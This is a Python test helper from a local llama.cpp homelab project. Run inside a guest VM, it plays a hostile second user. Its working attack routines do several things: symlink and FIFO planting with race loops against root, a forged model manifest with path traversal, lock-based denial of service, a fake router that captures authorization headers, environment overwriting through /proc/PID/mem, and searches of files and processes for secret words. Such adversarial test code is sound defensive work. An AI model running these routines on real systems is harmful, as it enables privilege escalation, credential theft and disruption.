# Copyright (c) 2026 The homelab.llamacpp authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What another user of the guest tries. Runs in the guest, by its own Python, as that user: attacker.py PROGRAM WORD…

Each program prints a result as JSON. It tries everything and reports what it managed to do; refusals are no error.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import socket
import stat
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

NOT_SEARCHED = ("/proc", "/sys", "/dev/pts", "/dev/mqueue")
LARGEST = 4 << 20
NESTED = "[" * 200_000
HOSTILE = {
    "nested": NESTED,
    "names": json.dumps(["\ud800", "a\0b", "../../../srv/victims/file", {}, 7]),
    "kind": '{"format": 1, "models": []}',
    "digests": f"{'0' * 64}  /srv/victims/file\n{'f' * 64}  /etc/shadow\n{'1' * 64}  /proc/kmsg\n",
}


def folders() -> list[str]:
    """All directories that this user can write to, shared ones with a sticky bit last."""
    found = []
    for folder, below, _files in os.walk("/"):
        below[:] = [name for name in below if os.path.join(folder, name) not in NOT_SEARCHED]
        if os.access(folder, os.W_OK | os.X_OK):
            found.append(folder)
    return sorted(found, key=lambda path: bool(os.stat(path).st_mode & stat.S_ISVTX))


def writable() -> Any:
    return folders()


def _away(path: str) -> bool:
    """Rename what is there. False where this user may not."""
    if not os.path.lexists(path):
        return True
    try:
        os.rename(path, f"{path}.was")
    except OSError:
        return False
    return True


def plant(kind: str, *names: str) -> Any:
    """Put a link, FIFO or hostile file by each of these names into each directory, in the place of what is there."""
    planted = []
    for folder in folders():
        for name in names:
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                if not _away(path):
                    continue
                if kind == "fifo":
                    os.mkfifo(path, 0o666)
                elif kind in HOSTILE:
                    with open(path, "x", encoding="utf-8", errors="surrogatepass") as file:
                        file.write(HOSTILE[kind])
                elif kind == "huge":
                    with open(path, "xb") as file:
                        file.truncate(1 << 40)
                else:
                    os.symlink(kind, path)
                planted.append(path)
    return planted


def flip(victim: str, *names: str) -> Any:
    """As `plant`, in directories that no other user shares, with one kind after the other for as long as root looks."""
    folders_of_its_own = [folder for folder in folders() if not os.stat(folder).st_mode & stat.S_ISVTX]
    places = [os.path.join(folder, name) for folder in folders_of_its_own for name in names]
    places = [place for place in places if _away(place)]

    def work() -> None:
        made: tuple[Callable[[str], object], ...] = (
            lambda path: os.symlink(victim, path),
            lambda path: os.mkfifo(path, 0o666),
            lambda path: open(path, "x", encoding="ascii").close(),
            lambda path: os.symlink(os.path.dirname(victim), path),
        )
        while True:
            for make in made:
                for place in places:
                    with contextlib.suppress(OSError):
                        os.unlink(place)
                    with contextlib.suppress(OSError):
                        make(place)
                time.sleep(0.001)

    return {"pid": _in_background(work), "places": places}


def exchange(victim: str, *places: str) -> Any:
    """Put directories of its own in the place of those below its own: they show the same files, and lead to others.

    A forged record beside the true one names files that are not its own; locks and part files are links.
    """
    exchanged = []
    for folder in folders():
        if os.stat(folder).st_uid != os.getuid():
            continue
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if not os.path.isdir(path) or os.path.islink(path) or not _away(path):
                continue
            os.mkdir(path)
            for entry in os.listdir(f"{path}.was"):
                os.symlink(f"{path}.was/{entry}", f"{path}/{entry}")
            _forge(path, victim, places)
            exchanged.append(path)
    return exchanged


def _forge(path: str, victim: str, places: tuple[str, ...]) -> None:
    true: dict[str, Any] = {"format": 1, "models": {}}
    with contextlib.suppress(OSError, ValueError), open(f"{path}/.model_file.json", encoding="utf-8") as file:
        true = json.load(file)
    status = {"role": "model", "size": 7, "mtime_ns": 1, "sha256": "0" * 64}
    files = dict.fromkeys((*places, "../" * 12 + victim.lstrip("/"), victim), status)
    true["models"]["forged"] = {"identity": "forged", "commit": "", "files": files, "placed": 1}
    links = dict.fromkeys((".model_file.json.lock", ".model_file.added.lock", "added.gguf.part"), victim)
    links["forged"] = os.path.dirname(victim)
    for name in (*links, ".model_file.json"):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(f"{path}/{name}")
    with open(f"{path}/.model_file.json", "x", encoding="utf-8") as file:
        json.dump(true, file)
    for name, target in links.items():
        os.symlink(target, f"{path}/{name}")


def _readable(*roots: str) -> Iterator[str]:
    for root in roots:
        for folder, below, files in os.walk(root):
            below[:] = [name for name in below if os.path.join(folder, name) not in NOT_SEARCHED]
            for name in (*files, *below):
                path = os.path.join(folder, name)
                if not os.path.islink(path) and os.access(path, os.R_OK):
                    yield path


def _in_background(work: Callable[[], None]) -> int:
    """Run it in a process that outlives this one; it ends by itself after ten minutes."""
    pid = os.fork()
    if pid:
        return pid
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    import signal

    signal.alarm(600)
    try:
        work()
    finally:
        os._exit(0)


def hold(*roots: str) -> Any:
    """Lock every file and directory there that this user can open, and keep the locks."""
    locked = []
    handles = []
    for path in _readable(*roots):
        with contextlib.suppress(OSError):
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
            handles.append(handle)
            locked.append(path)
    return {"pid": _in_background(lambda: time.sleep(600)), "locked": locked}


def listen(captured: str, *ports: str) -> Any:
    """Answer on these ports as a router would, and keep what clients say."""
    sockets = []
    for port in ports:
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        with contextlib.suppress(OSError):
            one.bind(("0.0.0.0", int(port)))
            one.listen(64)
            sockets.append(one)

    def serve() -> None:
        import selectors

        waiting = selectors.DefaultSelector()
        for one in sockets:
            waiting.register(one, selectors.EVENT_READ)
        while True:
            for key, _events in waiting.select():
                with contextlib.suppress(OSError):
                    _answer(key.fileobj.accept()[0], captured)  # type: ignore[union-attr]

    return {"pid": _in_background(serve), "ports": [one.getsockname()[1] for one in sockets]}


def _answer(line: socket.socket, captured: str) -> None:
    with line:
        line.settimeout(2)
        request = line.recv(65536)
        with open(captured, "ab") as file:
            file.write(request + b"\n")
        model = {"id": "copied", "aliases": [], "tags": [], "status": {"value": "unloaded", "args": []}}
        props = {"role": "router", "max_instances": 1, "build_info": "b1-x"}
        answers = {b"/health": {"status": "ok"}, b"/props": props, b"/models": {"data": [model]}}
        path = request.split(b" ")[1].split(b"?")[0].replace(b"/v1", b"") if request.count(b" ") > 1 else b""
        given = b"authorization" in request.lower() or path == b"/health"
        body = json.dumps(answers.get(path, {})).encode() if given else b"{}"
        status = b"200 OK" if given else b"401 Unauthorized"
        head = b"HTTP/1.1 %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
        line.sendall(head % (status, len(body)) + body)


def overwrite(pid: str, *words: str) -> Any:
    """Put other words in the place of a process's environment: it is the process's memory, and its user may write."""
    fields = _fields(pid)
    start, end = int(fields[47]), int(fields[48])
    new = b"".join(word.encode() + b"\0" for word in words)
    assert 0 < start < start + len(new) <= end
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(start)
            memory.write(new.ljust(end - start, b"\0"))
    except OSError as error:
        return {"refused": str(error)}
    with open(f"/proc/{pid}/environ", "rb") as file:
        return {"environ": file.read().rstrip(b"\0").decode(errors="replace").split("\0")}


def _fields(pid: str) -> list[str]:
    """Of /proc/PID/stat, from the third on."""
    with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as file:
        return file.read().rpartition(")")[2].split()


def search(*backwards: str) -> Any:
    """The files, command lines and environments that this user can read and that hold one of these words."""
    words = [word[::-1].encode() for word in backwards]
    found = []
    for path in _readable("/"):
        with contextlib.suppress(OSError):
            status = os.stat(path)
            if stat.S_ISREG(status.st_mode) and status.st_size <= LARGEST and _holds(path, words):
                found.append(path)
    return found + _processes(words)


def _holds(path: str, words: list[bytes]) -> bool:
    with open(path, "rb") as file:
        content = file.read()
    return any(word in content for word in words)


def _processes(words: list[bytes]) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                if _holds(f"/proc/{pid}/{name}", words):
                    with open(f"/proc/{pid}/comm", encoding="utf-8", errors="replace") as file:
                        found.append(f"/proc/PID/{name} of {file.read().strip()}")
    return found


def watch(report: str, *backwards: str) -> Any:
    """Look for these words in all processes and in the shared directories, again and again."""
    words = [word[::-1].encode() for word in backwards]

    def look() -> None:
        seen: set[str] = set()
        rounds = 0
        while True:
            found = set(_processes(words))
            for path in _readable("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
                with contextlib.suppress(OSError):
                    if os.path.isfile(path) and path != report and _holds(path, words):
                        found.add(path)
            rounds += 1
            seen |= found
            with open(f"{report}.new", "w", encoding="utf-8") as file:
                json.dump({"rounds": rounds, "seen": sorted(seen)}, file)
            os.replace(f"{report}.new", report)
            time.sleep(0.05)

    return {"pid": _in_background(look)}


PROGRAMS: dict[str, Callable[..., Any]] = {
    "exchange": exchange,
    "flip": flip,
    "hold": hold,
    "listen": listen,
    "overwrite": overwrite,
    "plant": plant,
    "search": search,
    "watch": watch,
    "writable": writable,
}

if __name__ == "__main__":
    print(json.dumps(PROGRAMS[sys.argv[1]](*sys.argv[2:])))
